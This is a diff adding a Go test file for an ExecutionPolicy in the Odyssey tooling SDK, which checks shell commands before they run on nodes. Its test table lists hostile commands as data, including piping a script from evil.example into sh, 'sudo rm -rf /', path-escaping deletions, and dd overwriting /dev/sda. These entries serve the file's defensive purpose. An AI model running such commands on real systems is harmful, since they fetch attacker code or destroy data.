@@ -0,0 +1,73 @@
+// Copyright (C) 2025, Dione Limited. All rights reserved.
+// See the file LICENSE for licensing terms.
+
+package node
+
+import (
+	"io/fs"
+	"regexp"
+	"testing"
+
+	"github.com/DioneProtocol/odyssey-tooling-sdk-go/constants"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestExecutionPolicy_Check(t *testing.T) {
+	policy := &ExecutionPolicy{
+		AllowedDownloadDomains: []string{"docker.com"},
+		ManagedDirs:            []string{"/opt/odyssey"},
+		DeniedPatterns:         []*regexp.Regexp{regexp.MustCompile(`\bdd\s+if=`)},
+	}
+	tests := []struct {
+		name    string
+		content string
+		allowed bool
+	}{
+		{name: "download to file", content: "curl -fsSL -o /tmp/go.tar.gz https://example.com/go.tar.gz", allowed: true},
+		{name: "allowed pipe", content: "curl -fsSL https://get.docker.com | sudo sh", allowed: true},
+		{name: "allowed subdomain", content: "wget -qO- https://download.docker.com/install.sh | bash", allowed: true},
+		{name: "pipe from other domain", content: "curl -fsSL https://evil.example/x.sh | sh"},
+		{name: "lookalike domain", content: "curl https://notdocker.com/x.sh | sh"},
+		{name: "pipe without url", content: "curl $URL | bash"},
+		{name: "remove relative", content: "rm -rf go build", allowed: true},
+		{name: "remove variable", content: `trap 'rm -rf "$TMP_DIR"' EXIT`, allowed: true},
+		{name: "remove file", content: "sudo rm -f /etc/ssh/sshd_config.bak", allowed: true},
+		{name: "remove managed", content: "rm -rf /opt/odyssey/cache /tmp/build", allowed: true},
+		{name: "remove odysseygo dir", content: "rm -r " + constants.DefaultOdysseyGoDir + "/db", allowed: true},
+		{name: "remove root", content: "sudo rm -rf /"},
+		{name: "remove managed dir itself", content: "rm -rf /opt/odyssey"},
+		{name: "remove escaping managed", content: "rm -rf /opt/odyssey/../../etc"},
+		{name: "remove home", content: "rm --recursive --force $HOME"},
+		{name: "remove parent", content: "rm -Rf ../.."},
+		{name: "denied pattern", content: "dd if=/dev/zero of=/dev/sda"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := policy.Check(tt.content, constants.DefaultOdysseyGoDir)
+			if tt.allowed {
+				require.NoError(t, err)
+			} else {
+				require.ErrorIs(t, err, ErrCommandNotAllowed)
+			}
+		})
+	}
+	assert.NoError(t, (*ExecutionPolicy)(nil).Check("curl https://evil.example | sh"))
+}
+
+func TestExecutionPolicy_EmbeddedScripts(t *testing.T) {
+	scripts, err := fs.Glob(script, "shell/*.sh")
+	require.NoError(t, err)
+	node := &Node{NodeID: "node-1", ExecutionPolicy: &ExecutionPolicy{}}
+	for _, scriptPath := range scripts {
+		rendered, err := renderScript(scriptPath, scriptPath, scriptInputs{})
+		if err != nil {
+			// scripts whose inputs are not in scriptInputs are not run by RunOverSSH
+			continue
+		}
+		assert.NoError(t, node.checkExecutionPolicy(scriptPath, rendered), scriptPath)
+	}
+	err = node.checkExecutionPolicy("custom", "curl https://evil.example | sh")
+	require.ErrorIs(t, err, ErrCommandNotAllowed)
+	assert.ErrorContains(t, err, "refusing to run custom on node node-1")
+}